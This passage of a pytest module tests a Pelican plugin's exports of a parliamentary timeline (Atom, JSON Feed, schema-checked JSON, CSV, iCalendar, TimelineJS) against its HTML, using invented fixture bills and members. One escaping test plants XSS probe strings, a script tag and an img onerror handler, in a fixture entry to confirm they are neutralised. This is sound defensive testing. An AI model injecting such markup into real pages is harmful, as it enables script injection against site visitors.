"""The exports of a real build, each read back by a real reader of its format.

feedparser for the Atom feeds, jsonschema for timeline.json, the csv module,
the icalendar package; JSON Feed and TimelineJS by their specs' required
fields here and TimelineJS itself in test_exports_browser.py. Every export
must give the same events, in the same order, with the same permalinks as
the HTML.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
from pathlib import Path
from xml.etree.ElementTree import canonicalize

import feedparser
import icalendar
import jsonschema
import pytest

from conftest import (
    FIXTURE_NAMESPACE,
    FIXTURE_SETTINGS,
    build,
    fixture_settings,
    fixture_vocabulary,
)
from pelican.plugins.parliament_timeline.errors import TimelineBuildError
from pelican.plugins.parliament_timeline.exports import export_links, write_export_files
from pelican.plugins.parliament_timeline.exports.common import EPOCH, export_site
from pelican.plugins.parliament_timeline.exports.csvfile import COLUMNS
from pelican.plugins.parliament_timeline.exports.pieces import PieceCache
from pelican.plugins.parliament_timeline.exports.recordcsv import COLUMNS as RECORD_COLUMNS
from pelican.plugins.parliament_timeline.exports.timelinejson import SCHEMA_PATH
from pelican.plugins.parliament_timeline.model import Timeline
from pelican.plugins.parliament_timeline.procedure import (
    DECISIONS,
    DIVISION_LOBBIES,
    DIVISION_RESULTS,
    HOUSES,
    STAGES,
)
from pelican.plugins.parliament_timeline.records.bills import read_bills
from pelican.plugins.parliament_timeline.settings import read_settings
from sitecheck import parse, resolve

PUBLIC = "http://localhost:8000"
SCHEMA = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
# The fixture subject with its settings, and this site's content with its own.
SITES = {"fixture": "fixture_build", "content": "real_site"}
VOCABULARY = fixture_vocabulary()
RECORD_KINDS = ("people", "questions", "amendments", "divisions", "versions")
# The fixture's report stage event, which its amendments and divisions name.
FIXTURE_EVENT_ID = uuid.uuid5(uuid.UUID(FIXTURE_NAMESPACE), "event:2024-05-15-report-stage").urn


@pytest.fixture(params=sorted(SITES))
def built(request) -> Path:
    """The fixture site and the real content, each built once per session with
    its own settings (conftest's fixture_build and real_site; read only)."""
    return request.getfixturevalue(SITES[request.param])


def bills_of(built: Path) -> dict:
    """The bills of a built site, read from its content's bill records."""
    bills, problems = read_bills(str(built.parent / "content" / "bills"))
    assert bills and problems == []
    return bills


@pytest.fixture
def built_fixture(fixture_build) -> Path:
    """The fixture site built once per session (read only)."""
    return fixture_build


def html_permalinks(output: Path, page: Path) -> list[str]:
    """The absolute permalinks of the events listed on a built page, in order.

    An event listed on a page is an element whose id is its anchor
    ("event-<slug>"), holding a link to the event's own page.
    """
    links = []
    events = (output / "events").resolve()
    for item in parse(page).select("main [id^='event-']"):
        for a in item.select("a[href]"):
            found = resolve(output, page, a["href"])
            if found and found[0].resolve().parent.parent == events:
                rel = found[0].resolve().relative_to(output.resolve()).as_posix()
                links.append(f"{PUBLIC}/{rel.removesuffix('index.html')}")
                break
        else:
            raise AssertionError(f"{page}: {item['id']} has no link to its page")
    return links


def atom(path: Path):
    feed = feedparser.parse(path.read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    return feed


def alternate(entry) -> str:
    return next(link.href for link in entry.links if link.rel == "alternate")


def test_atom_feed_of_every_event_matches_the_html(built):
    feed = atom(built / "feeds" / "all.atom.xml")
    permalinks = html_permalinks(built, built / "index.html")
    assert [alternate(e) for e in feed.entries] == permalinks
    timeline = json.loads((built / "timeline.json").read_bytes())["events"]
    for entry, event in zip(feed.entries, timeline, strict=True):
        assert entry.id == event["id"]
        assert entry.id.startswith("urn:uuid:")
        related = [link.href for link in entry.links if link.rel == "related"]
        assert related == [s["url"] for s in event["sources"]]
        assert entry.title == event["title"]
        assert {t.term for t in entry.tags} >= {event["stage"]["key"], event["chamber"]["key"]}
    assert len({e.id for e in feed.entries}) == len(feed.entries)
    assert feed.feed.links[0].href == f"{PUBLIC}/"


def test_feed_updated_is_the_newest_event_or_correction_not_the_clock(built_fixture):
    feed = atom(built_fixture / "feeds" / "all.atom.xml")
    # The fixture's newest change is the correction of 1 June 2024.
    assert feed.feed.updated == "2024-06-01T00:00:00+01:00"
    report = next(e for e in feed.entries if "report-stage" in alternate(e))
    assert report.published == "2024-05-15T14:30:00+01:00"
    assert report.updated == "2024-06-01T00:00:00+01:00"
    empty = atom(built_fixture / "feeds" / "stages" / "third-reading.atom.xml")
    assert empty.entries == []
    assert empty.feed.updated == "2024-06-01T00:00:00+01:00"


def test_each_bill_and_stage_has_a_feed_with_the_events_of_its_page(built):
    for bill in bills_of(built).values():
        feed = atom(built / "feeds" / "bills" / f"{bill.key}.atom.xml")
        page = built / "bills" / bill.key / "index.html"
        assert [alternate(e) for e in feed.entries] == html_permalinks(built, page)
        assert bill.title in feed.feed.title
    for stage in STAGES.values():
        feed = atom(built / "feeds" / "stages" / f"{stage.key}.atom.xml")
        page = built / "stages" / stage.key / "index.html"
        assert [alternate(e) for e in feed.entries] == html_permalinks(built, page)


def test_json_feed_is_version_1_1_with_the_events_of_the_html(built):
    feed = json.loads((built / "feed.json").read_bytes())
    assert feed["version"] == "https://jsonfeed.org/version/1.1"
    assert feed["title"] and feed["feed_url"] == f"{PUBLIC}/feed.json"
    assert [i["url"] for i in feed["items"]] == html_permalinks(built, built / "index.html")
    for item in feed["items"]:
        assert item["id"] and ("content_html" in item or "content_text" in item)
        assert item["external_url"].startswith("http")
        dt.datetime.fromisoformat(item["date_published"])


def test_timeline_json_is_valid_against_the_committed_schema(built):
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    data = json.loads((built / "timeline.json").read_bytes())
    jsonschema.Draft202012Validator(SCHEMA).validate(data)
    assert [e["permalink"] for e in data["events"]] == html_permalinks(built, built / "index.html")
    assert [s["key"] for s in data["vocabularies"]["stages"]] == list(STAGES)
    # Bills in the order their stories begin on the timeline (as the pages list them).
    first = list(dict.fromkeys(e["bill"]["key"] for e in data["events"] if e["bill"]))
    order = first + [k for k in bills_of(built) if k not in first]
    assert [b["key"] for b in data["vocabularies"]["bills"]] == order
    # The published copy of the schema is the committed one.
    assert json.loads((built / "timeline.schema.json").read_bytes()) == SCHEMA


def test_the_schema_rejects_an_event_that_lacks_a_field_or_has_a_stray_one(built_fixture):
    data = json.loads((built_fixture / "timeline.json").read_bytes())
    validator = jsonschema.Draft202012Validator(SCHEMA)
    del data["events"][0]["permalink"]
    assert not validator.is_valid(data)
    data = json.loads((built_fixture / "timeline.json").read_bytes())
    data["events"][0]["invented"] = True
    assert not validator.is_valid(data)


def test_timeline_json_carries_every_field_of_an_event(built_fixture):
    events = {e["slug"]: e for e in json.loads((built_fixture / "timeline.json").read_bytes())[
        "events"]}
    ann = events["2024-04-16-announcement"]
    assert ann["stage"] == {"key": "announcement", "label": "Announcement"}
    assert ann["chamber"] == {"key": "government", "label": "Government"}
    assert ann["bill"]["title"] == "Widget Safety Bill" and ann["bill"]["session"] == "2023-24"
    assert ann["sources"][0] == {"url": "https://www.gov.uk/government/news/example",
                                 "title": "A press release", "official": True}
    assert ann["sources"][1]["official"] is False
    assert ann["people"] == [{"id": "jane-widget", "name": "Jane Widget",
                              "role": "Minister for Things"}]
    assert ann["questions"] == [] and ann["quotes"] == []
    assert ann["origin"] == "editor" and ann["from_feed"] is False
    assert "<em>narrative</em>" in ann["body_html"]
    report = events["2024-05-15-report-stage"]
    assert report["date"] == "2024-05-15T14:30:00+01:00" and report["time"] == "14:30"
    assert report["corrections"] == [{"date": "2024-06-01", "text": "Fixed the time."}]
    assert report["people"] == [
        {"id": "jane-widget", "name": "Jane Widget", "role": "Minister for Widgets"}]
    assert report["questions"] == [{"id": "licence-or-label", "side": "label"},
                                   {"id": "penalties", "side": None}]
    assert report["quotes"] == [{
        "person": {"id": "jane-widget", "name": "Jane Widget"},
        "url": "https://hansard.parliament.uk/Commons/2024-05-15/debates/x/Example",
        "text": "a label tells every buyer what they need to know",
        "questions": [{"id": "licence-or-label", "side": "label"}],
    }]
    assert events["2024-05-15-same-day-debate"]["unverified"] == "The exact speaker."
    assert events["2024-05-15-same-day-debate"]["bill"] is None


def test_timeline_json_carries_the_records_of_the_debate(built_fixture):
    data = json.loads((built_fixture / "timeline.json").read_bytes())
    assert [[r["id"] for r in data[kind]] for kind in RECORD_KINDS] == [
        ["jane-widget", "lord-sprocket", "sam-cog"], ["licence-or-label", "penalties"],
        ["wsb-amendment-7", "wsb-nc1"],
        ["2024-05-15-commons-nc1", "2024-05-15-commons-penalties"],
        ["cwa-section-1-as-enacted", "wsb-nc1-report"]]
    people = {p["id"]: p for p in data["people"]}
    assert people["jane-widget"]["roles"] == [
        {"title": "Member of Parliament for Widgetford", "from": "2019-12-12", "to": None},
        {"title": "Minister for Widgets", "from": "2023-11", "to": "2024-07-05"}]
    assert people["jane-widget"]["house"] == {"key": "commons", "label": "House of Commons"}
    sprocket = people["lord-sprocket"]
    assert sprocket["member_url"] is None and sprocket["sources"][0]["official"] is False
    assert sprocket["unverified"] == "No official page for this invented peer was seen."
    question = data["questions"][0]
    assert question["sides"] == [
        {"id": "licence", "text": "Sellers of widgets should hold a licence"},
        {"id": "label", "text": "A safety label on each widget is enough"}]
    assert data["questions"][1]["outcome"] is None
    report = FIXTURE_EVENT_ID
    seven, nc1 = data["amendments"]
    assert nc1 == {
        "id": "wsb-nc1", "label": "New clause 1", "number": "NC1",
        "title": "Safety label on widgets", "bill": "widget-safety-bill-2023-24",
        "house": {"key": "commons", "label": "House of Commons"},
        "stage": {"key": "report", "label": "Report stage"},
        "mover": {"id": "jane-widget", "name": "Jane Widget"},
        "supporters": [{"id": "lord-sprocket", "name": "Lord Sprocket"}],
        "tabled": "2024-05-10", "decided": "2024-05-15",
        "decision": {"key": "agreed-on-division", "label": "Agreed to on a division"},
        "division": "2024-05-15-commons-nc1", "replaced_by": None, "events": [report],
        "questions": [{"id": "licence-or-label", "side": "label"}],
        "statement": "This new clause requires a safety label on every widget sold.",
        "text": "(1) A person who sells a widget without a safety label commits an offence."
                "\n\n(2) A person guilty of an offence under this section is liable on "
                "summary conviction to a fine.",
        "sources": [{"url": "https://bills.parliament.uk/bills/99902/publications",
                     "title": "Notices of amendments (invented)", "official": True}],
        "unverified": None,
    }
    # No text seen is null, not an empty guess.
    assert seven["mover"] == {"id": "sam-cog", "name": "Sam Cog"}
    assert seven["text"] is None and seven["tabled"] is None
    assert seven["replaced_by"] == {"type": "amendment", "id": "wsb-nc1"}
    division = data["divisions"][0]
    assert division["lobbies"] == {
        "for": {"name": "Ayes", "count": 300, "meaning": "to require a safety label on every "
                "widget sold", "tellers": [{"id": "jane-widget", "name": "Jane Widget"}]},
        "against": {"name": "Noes", "count": 200, "tellers": [],
                    "meaning": "to leave widgets without a labelling duty"}}
    assert division["result"] == {"key": "agreed", "label": "Agreed"}
    assert (division["amendment"], division["event"], division["number"]) == (
        "wsb-nc1", report, "101")
    enacted, tabled = data["versions"]
    assert enacted["enacted"] is True and enacted["bill"] == "consumer-widgets-bill-hl"
    assert (enacted["stage"], enacted["amendment"]) == (None, None)
    assert (enacted["in_force"], enacted["up_to_date"]) == ("2025-06-01", "2026-01-01")
    assert tabled["amendment"] == "wsb-nc1" and tabled["enacted"] is False
    assert tabled["partial"] is True and enacted["partial"] is False
    assert tabled["stage"] == {"key": "report", "label": "Report stage"}
    assert tabled["paragraphs"] == [
        "(1) A person who sells a widget without a safety label commits an offence.",
        "(2) A person guilty of an offence under this section is liable on summary "
        "conviction to a fine."]


def test_counts_not_seen_are_null_never_guessed(built_fixture):
    data = json.loads((built_fixture / "timeline.json").read_bytes())
    penalties = next(d for d in data["divisions"] if d["id"] == "2024-05-15-commons-penalties")
    lobbies = penalties["lobbies"]
    assert (lobbies["for"]["count"], lobbies["against"]["count"]) == (None, None)
    assert (lobbies["for"]["name"], lobbies["against"]["name"]) == ("Ayes", "Noes")
    assert penalties["result"]["key"] == "not-agreed" and penalties["number"] is None
    # The schema allows null counts but not a missing one.
    del lobbies["for"]["count"]
    assert not jsonschema.Draft202012Validator(SCHEMA).is_valid(data)


def named_ids(data: dict) -> list[tuple[str, str, str | None]]:
    """Every id that timeline.json names, as (where, kind named, id)."""
    refs = []

    def people(where, found):
        refs.extend((where, "people", p["id"]) for p in found if p["id"] is not None)

    def questions(where, found):
        for q in found:
            refs.append((where, "questions", q["id"]))
            if q["side"] is not None:
                refs.append((where, f"sides of {q['id']}", q["side"]))

    for e in data["events"]:
        where = e["slug"]
        people(where, e["people"])
        questions(where, e["questions"])
        for quote in e["quotes"]:
            people(where, [quote["person"]])
            questions(where, quote["questions"])
        if e["bill"]:
            refs.append((where, "bills", e["bill"]["key"]))
    for a in data["amendments"]:
        where = a["id"]
        refs.append((where, "bills", a["bill"]))
        refs.append((where, "stages", a["stage"]["key"]))
        people(where, [a["mover"]] if a["mover"] else [])
        people(where, a["supporters"])
        if a["division"] is not None:
            refs.append((where, "divisions", a["division"]))
        if a["replaced_by"] is not None:
            kind = {"amendment": "amendments", "version": "versions"}[a["replaced_by"]["type"]]
            refs.append((where, kind, a["replaced_by"]["id"]))
        refs.extend((where, "events", e) for e in a["events"])
        questions(where, a["questions"])
    for d in data["divisions"]:
        where = d["id"]
        for lobby in d["lobbies"].values():
            people(where, lobby["tellers"])
        if d["amendment"] is not None:
            refs.append((where, "amendments", d["amendment"]))
        refs.append((where, "events", d["event"]))
        questions(where, d["questions"])
    for v in data["versions"]:
        where = v["id"]
        if v["bill"] is not None:
            refs.append((where, "bills", v["bill"]))
        if v["stage"] is not None:
            refs.append((where, "stages", v["stage"]["key"]))
        if v["amendment"] is not None:
            refs.append((where, "amendments", v["amendment"]))
    return refs


def test_every_id_named_in_timeline_json_exists(built):
    data = json.loads((built / "timeline.json").read_bytes())
    known = {kind: {r["id"] for r in data[kind]} for kind in RECORD_KINDS}
    known["events"] = {e["id"] for e in data["events"]}
    known["bills"] = {b["key"] for b in data["vocabularies"]["bills"]}
    known["stages"] = {s["key"] for s in data["vocabularies"]["stages"]}
    for q in data["questions"]:
        known[f"sides of {q['id']}"] = {s["id"] for s in q["sides"]}
    for kind in [*RECORD_KINDS, "events"]:
        ids = [r["id"] for r in data[kind]]
        assert len(ids) == len(set(ids)), f"{kind}: an id is given twice"
    refs = named_ids(data)
    unresolved = [r for r in refs if r[2] not in known.get(r[1], ())]
    assert unresolved == []
    if built.parent.name.startswith("fixture"):
        # The fixture names every kind of link at least once.
        assert {kind for _, kind, _ in refs} >= {
            "people", "questions", "events", "bills", "stages", "amendments", "divisions"}
        # The check itself catches a dangling id.
        data["amendments"][-1]["division"] = "no-such-division"
        assert [r for r in named_ids(data) if r[2] not in known.get(r[1], ())] == [
            ("wsb-nc1", "divisions", "no-such-division")]
        data = json.loads((built / "timeline.json").read_bytes())
    # And the two ends of a decision agree.
    divisions = {d["id"]: d for d in data["divisions"]}
    for a in data["amendments"]:
        if a["division"] is not None:
            assert divisions[a["division"]]["amendment"] in (None, a["id"])


def test_a_link_to_an_event_not_on_the_timeline_is_left_out(fixture_site, tmp_path):
    # A development build lets the dangling link through (invoke check reports it).
    (fixture_site / "entries" / "2024" / "2024-05-15-report-stage.md").unlink()
    out = build(fixture_site, tmp_path / "out")
    data = json.loads((out / "timeline.json").read_bytes())
    jsonschema.Draft202012Validator(SCHEMA).validate(data)
    assert FIXTURE_EVENT_ID not in json.dumps(data)
    assert [a["events"] for a in data["amendments"]] == [[], []]
    assert [d["event"] for d in data["divisions"]] == [None, None]
    assert [r["event"] for r in read_csv(out / "divisions.csv")[1]] == ["", ""]


def test_the_schema_takes_its_enums_from_the_procedure_vocabularies():
    defs = SCHEMA["$defs"]
    assert defs["amendment"]["properties"]["decision"]["properties"]["key"]["enum"] == list(
        DECISIONS)
    assert defs["division"]["properties"]["result"]["properties"]["key"]["enum"] == list(
        DIVISION_RESULTS)
    assert defs["house"]["properties"]["key"]["enum"] == list(HOUSES)
    assert defs["bill"]["properties"]["house"]["enum"] == list(HOUSES)
    assert defs["lobby"]["properties"]["name"]["enum"] == [
        name for names in DIVISION_LOBBIES.values() for name in names]


def test_csv_has_a_header_and_one_rfc4180_row_per_event(built):
    data = (built / "timeline.csv").read_bytes()
    text = data.decode("utf-8")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # every record ends with CRLF
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(csv.reader(io.StringIO(text, newline="")).__next__()) == COLUMNS
    assert [r["permalink"] for r in rows] == html_permalinks(built, built / "index.html")
    events = json.loads((built / "timeline.json").read_bytes())["events"]
    for row, event in zip(rows, events, strict=True):
        assert row["id"] == event["id"]
        assert row["primary_source"] == event["sources"][0]["url"]
        assert row["sources"].split(" ") == [s["url"] for s in event["sources"]]
        assert row["summary"] == event["summary"]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    """A CSV file's header and rows, read by the csv module, checked for RFC 4180 line ends."""
    text = path.read_bytes().decode("utf-8")
    assert text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    # Every record ends with CRLF; a bare line break is only ever inside a quoted cell.
    records = [r for r in csv.reader(io.StringIO(text, newline=""))]
    assert text.count("\r\n") == len(records)
    return reader.fieldnames, rows


def test_each_kind_of_record_has_a_csv_with_a_row_per_record(built):
    data = json.loads((built / "timeline.json").read_bytes())
    links = export_links(read_settings({}), VOCABULARY)["record_csvs"]
    assert list(links) == list(RECORD_KINDS)
    for kind, rel in links.items():
        header, rows = read_csv(built / rel)
        assert tuple(header) == RECORD_COLUMNS[kind]
        assert [r["id"] for r in rows] == [r["id"] for r in data[kind]]


def test_record_csvs_give_the_fixtures_records(built_fixture):
    rows = {kind: {r["id"]: r for r in read_csv(built_fixture / f"{kind}.csv")[1]}
            for kind in RECORD_KINDS}
    report = FIXTURE_EVENT_ID
    assert rows["people"]["jane-widget"] == {
        "id": "jane-widget", "name": "Jane Widget", "party": "Invented Party",
        "house": "commons", "house_label": "House of Commons",
        "member_url": "https://members.parliament.uk/member/99901", "member_id": "99901",
        "seat": "",
        "roles": "Member of Parliament for Widgetford (from 2019-12-12); "
                 "Minister for Widgets (2023-11 to 2024-07-05)",
        "primary_source": "https://members.parliament.uk/member/99901",
        "primary_source_title": "Jane Widget (an invented member page)",
        "sources": "https://members.parliament.uk/member/99901", "unverified": "",
    }
    assert rows["people"]["lord-sprocket"]["unverified"] == (
        "No official page for this invented peer was seen.")
    assert rows["questions"]["licence-or-label"]["sides"] == (
        "licence: Sellers of widgets should hold a licence; "
        "label: A safety label on each widget is enough")
    assert rows["questions"]["penalties"]["outcome"] == ""
    nc1 = rows["amendments"]["wsb-nc1"]
    assert {k: nc1[k] for k in ("label", "number", "bill", "house", "stage", "mover_id",
                                "mover", "supporter_ids", "supporters", "tabled", "decided",
                                "decision", "decision_label", "division", "events",
                                "questions")} == {
        "label": "New clause 1", "number": "NC1", "bill": "widget-safety-bill-2023-24",
        "house": "commons", "stage": "report", "mover_id": "jane-widget",
        "mover": "Jane Widget", "supporter_ids": "lord-sprocket", "supporters": "Lord Sprocket",
        "tabled": "2024-05-10", "decided": "2024-05-15", "decision": "agreed-on-division",
        "decision_label": "Agreed to on a division", "division": "2024-05-15-commons-nc1",
        "events": report, "questions": "licence-or-label:label"}
    # The text as printed keeps its paragraphs, in one quoted cell.
    assert nc1["text"].split("\n\n")[0] == (
        "(1) A person who sells a widget without a safety label commits an offence.")
    seven = rows["amendments"]["wsb-amendment-7"]
    assert (seven["mover_id"], seven["mover"], seven["text"], seven["tabled"]) == (
        "sam-cog", "Sam Cog", "", "")
    assert (seven["replaced_by_type"], seven["replaced_by"]) == ("amendment", "wsb-nc1")
    counted = rows["divisions"]["2024-05-15-commons-nc1"]
    assert {k: counted[k] for k in ("number", "result", "for_lobby", "for_count",
                                    "against_lobby", "against_count", "for_teller_ids",
                                    "against_tellers", "amendment", "event")} == {
        "number": "101", "result": "agreed", "for_lobby": "Ayes", "for_count": "300",
        "against_lobby": "Noes", "against_count": "200", "for_teller_ids": "jane-widget",
        "against_tellers": "", "amendment": "wsb-nc1", "event": report}
    # Counts not seen are empty cells, never a guessed number (nor 0).
    unseen = rows["divisions"]["2024-05-15-commons-penalties"]
    assert (unseen["for_count"], unseen["against_count"], unseen["number"]) == ("", "", "")
    assert unseen["result"] == "not-agreed" and unseen["questions"] == "penalties:prison"
    enacted = rows["versions"]["cwa-section-1-as-enacted"]
    assert {k: enacted[k] for k in ("date", "bill", "stage", "provision", "amendment",
                                    "enacted", "in_force", "up_to_date")} == {
        "date": "2025-03-01", "bill": "consumer-widgets-bill-hl", "stage": "",
        "provision": "Section 1", "amendment": "", "enacted": "yes",
        "in_force": "2025-06-01", "up_to_date": "2026-01-01"}
    tabled = rows["versions"]["wsb-nc1-report"]
    assert (tabled["amendment"], tabled["enacted"], tabled["stage_label"]) == (
        "wsb-nc1", "no", "Report stage")
    assert len(tabled["text"].split("\n\n")) == 2


def test_icalendar_has_one_event_per_entry_with_stable_uid_and_source(built):
    cal = icalendar.Calendar.from_ical((built / "timeline.ics").read_bytes())
    # The due items still to come follow the events (tests/test_story_pages.py).
    vevents = [v for v in cal.walk("VEVENT") if not str(v["SUMMARY"]).startswith("Due: ")]
    events = json.loads((built / "timeline.json").read_bytes())["events"]
    assert len(vevents) == len(events)
    pages = []
    for vevent, event in zip(vevents, events, strict=True):
        assert "urn:uuid:" + str(vevent["UID"]) == event["id"]
        assert str(vevent["URL"]) == event["sources"][0]["url"]
        assert str(vevent["SUMMARY"]) == event["title"]
        start = vevent.decoded("DTSTART")
        if event["has_time"]:
            assert isinstance(start, dt.datetime)
            assert start == dt.datetime.fromisoformat(event["date"])
        else:
            assert type(start) is dt.date and start.isoformat() == event["day"]
        stamp = vevent.decoded("DTSTAMP")
        assert stamp == dt.datetime.fromisoformat(event["updated"])
        assert stamp.utcoffset() == dt.timedelta(0)
        assert vevent.decoded("SEQUENCE") == len(event["corrections"])
        line = next(t for t in str(vevent["DESCRIPTION"]).splitlines()
                    if t.startswith("Event page: "))
        pages.append(line.removeprefix("Event page: "))
    assert pages == html_permalinks(built, built / "index.html")


def test_timelinejs_has_one_slide_per_event_and_an_era_per_bill(built):
    data = json.loads((built / "timelinejs.json").read_bytes())
    events = json.loads((built / "timeline.json").read_bytes())["events"]
    assert [s["unique_id"] for s in data["events"]] == ["event-" + e["slug"] for e in events]
    for slide, event in zip(data["events"], events, strict=True):
        day = dt.date.fromisoformat(event["day"])
        date = slide["start_date"]
        assert (date["year"], date["month"], date["day"]) == (day.year, day.month, day.day)
        assert f'href="{event["permalink"]}"' in slide["text"]["text"]
        assert f'href="{event["sources"][0]["url"]}"' in slide["text"]["text"]
    keys = {(e["bill"] or {}).get("key") for e in events}
    with_events = [k for k in bills_of(built) if k in keys]
    assert len(data["eras"]) == len(with_events)


def test_exports_are_byte_identical_across_builds(fixture_site, tmp_path, built_fixture):
    again = build(fixture_site, tmp_path / "again")
    links = export_links(read_settings({}), VOCABULARY)
    paths = [links["feed_all_atom"], links["json_feed"], links["json"], links["csv"],
             *links["record_csvs"].values(),
             links["ics"], links["timelinejs"], *links["bill_feeds"].values(),
             *links["stage_feeds"].values(), "data/index.html"]
    for rel in paths:
        assert (again / rel).read_bytes() == (built_fixture / rel).read_bytes(), rel


def test_ids_do_not_change_when_the_site_moves(fixture_site, tmp_path, built_fixture):
    moved = build(fixture_site, tmp_path / "moved", TIMELINE_PUBLIC_URL="https://example.org/x")
    before = json.loads((built_fixture / "timeline.json").read_bytes())["events"]
    after = json.loads((moved / "timeline.json").read_bytes())["events"]
    assert [e["id"] for e in after] == [e["id"] for e in before]
    # The ids are the fixture site's own: UUID 5s of its TIMELINE_ID_NAMESPACE.
    namespace = uuid.UUID(FIXTURE_NAMESPACE)
    assert [e["id"] for e in before] == [
        uuid.uuid5(namespace, "event:" + e["slug"]).urn for e in before]
    assert after[0]["permalink"].startswith("https://example.org/x/events/")


def test_a_build_without_an_absolute_public_url_stops_with_a_clear_error(fixture_site, tmp_path):
    with pytest.raises(TimelineBuildError, match="TIMELINE_PUBLIC_URL"):
        build(fixture_site, tmp_path / "out", TIMELINE_PUBLIC_URL="", SITEURL="")


def test_a_build_without_an_id_namespace_stops_with_a_clear_error(fixture_site, tmp_path):
    with pytest.raises(TimelineBuildError, match="TIMELINE_ID_NAMESPACE is not set"):
        build(fixture_site, tmp_path / "out", TIMELINE_ID_NAMESPACE="")
    with pytest.raises(TimelineBuildError, match="TIMELINE_ID_NAMESPACE must be a UUID"):
        build(fixture_site, tmp_path / "out2", TIMELINE_ID_NAMESPACE="widgets")


def test_timeline_json_names_the_sites_data_set_and_subject_settings(built_fixture):
    data = json.loads((built_fixture / "timeline.json").read_bytes())
    assert data["format"] == FIXTURE_SETTINGS["TIMELINE_EXPORT_FORMAT"]
    assert data["site"]["title"] == FIXTURE_SETTINGS["SITENAME"]
    assert data["site"]["description"] == FIXTURE_SETTINGS["SITESUBTITLE"]
    # Any site's data set name is valid against the schema the plugin publishes.
    data["format"] = "another-sites-data"
    jsonschema.Draft202012Validator(SCHEMA).validate(data)


def test_every_page_links_the_exports_from_its_head(built_fixture):
    for page in [built_fixture / "index.html", built_fixture / "about" / "index.html",
                 built_fixture / "events" / "2024-04-16-announcement" / "index.html"]:
        head = parse(page).head
        types = {link["type"]: link["href"] for link in head.select("link[rel=alternate]")}
        assert set(types) == {"application/atom+xml", "application/feed+json",
                              "application/json", "text/csv", "text/calendar"}
        for href in types.values():
            target, _ = resolve(built_fixture, page, href)
            assert target.is_file(), (page, href)
    bill_page = built_fixture / "bills" / "widget-safety-bill-2023-24" / "index.html"
    feeds = [link["href"] for link in parse(bill_page).head.select(
        "link[rel=alternate][type='application/atom+xml']")]
    assert feeds[1].endswith("feeds/bills/widget-safety-bill-2023-24.atom.xml")
    stage_page = built_fixture / "stages" / "report" / "index.html"
    feeds = [link["href"] for link in parse(stage_page).head.select(
        "link[rel=alternate][type='application/atom+xml']")]
    assert feeds[1].endswith("feeds/stages/report.atom.xml")


def test_open_data_page_examples_are_cut_from_the_real_files(built):
    page = parse(built / "data" / "index.html")
    examples = {h2["id"]: h2.find_next("details", class_="example").pre.get_text()
                for h2 in page.select("main h2[id]")
                if h2["id"] not in ("records", "parliament-data", "citations", "sqlite")}
    assert set(examples) == {"atom", "json-feed", "json", "csv", "ical", "timelinejs"}
    atom_text = (built / "feeds" / "all.atom.xml").read_text(encoding="utf-8")
    last_entry = atom_text[atom_text.rindex("<entry>"):atom_text.rindex("</entry>") + 8]
    assert canonicalize(examples["atom"], strip_text=True) == canonicalize(
        last_entry, strip_text=True)
    assert json.loads(examples["json-feed"]) == json.loads(
        (built / "feed.json").read_bytes())["items"][-1]
    assert json.loads(examples["json"]) == json.loads(
        (built / "timeline.json").read_bytes())["events"][-1]
    assert json.loads(examples["timelinejs"]) == json.loads(
        (built / "timelinejs.json").read_bytes())["events"][-1]
    # (HTML turns the CRLF line ends into LF; the records are what count.)
    csv_rows = list(csv.reader(io.StringIO((built / "timeline.csv").read_bytes().decode(),
                                           newline="")))
    assert list(csv.reader(io.StringIO(examples["csv"]))) == [csv_rows[0], csv_rows[-1]]
    ics_text = (built / "timeline.ics").read_bytes().decode("utf-8")
    assert examples["ical"].replace("\n", "\r\n") in ics_text
    assert examples["ical"].rstrip().endswith("END:VEVENT")
    # Every format's file is linked from the page.
    hrefs = {a["href"] for a in page.select("main a[href]")}
    for name in ("feeds/all.atom.xml", "feed.json", "timeline.json", "timeline.csv",
                 "timeline.ics", "timelinejs.json", "timeline.schema.json", "timeline.sqlite",
                 *(f"{kind}.csv" for kind in RECORD_KINDS)):
        assert any(h.endswith(name) for h in hrefs), name


def test_open_data_page_shows_each_kind_of_record_from_the_real_files(built):
    page = parse(built / "data" / "index.html")
    data = json.loads((built / "timeline.json").read_bytes())
    for kind in RECORD_KINDS:
        heading = page.select_one(f"main h3#records-{kind}")
        assert heading is not None, kind
        shown = []
        for node in heading.find_all_next(["h2", "h3", "details"]):
            if node.name in ("h2", "h3"):
                break
            shown.append(node.pre.get_text())
        if not data[kind]:
            assert shown == [], kind
            continue
        # The last record of the kind, as timeline.json and the kind's CSV give it.
        json_text, csv_text = shown
        assert json.loads(json_text) == data[kind][-1]
        rows = list(csv.reader(io.StringIO((built / f"{kind}.csv").read_bytes().decode(),
                                           newline="")))
        assert list(csv.reader(io.StringIO(csv_text, newline=""))) == [rows[0], rows[-1]]


def test_markup_in_an_entry_is_escaped_in_every_export(fixture_site, tmp_path):
    (fixture_site / "entries" / "2024-07-01-hostile.md").write_text(
        "Title: <script>alert(1)</script> & co\nDate: 2024-07-01\n"
        "Summary: A summary with <img src=x onerror=alert(1)> in it.\n"
        "Stage: statement\nChamber: government\n"
        "Sources: https://www.gov.uk/x?a=1&b=2 | A <b>title</b>\n",
        encoding="utf-8",
    )
    out = build(fixture_site, tmp_path / "out")
    slides = json.loads((out / "timelinejs.json").read_bytes())["events"]
    slide = next(s for s in slides if s["unique_id"] == "event-2024-07-01-hostile")
    assert "<script" not in json.dumps(slide) and "<img" not in json.dumps(slide)
    assert slide["text"]["headline"] == "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co"
    feed = atom(out / "feeds" / "all.atom.xml")
    entry = next(e for e in feed.entries if "hostile" in alternate(e))
    assert entry.title == "<script>alert(1)</script> & co"  # a text construct, as text
    # type="html" summaries are escaped once more, so readers show the text.
    assert "&lt;img src=x" in entry.summary
    assert "&amp;lt;img" in (out / "feeds" / "all.atom.xml").read_text(encoding="utf-8")


def written(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder``, by its path relative to it."""
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_exports_of_an_empty_timeline_are_valid_and_dated_deterministically(tmp_path):
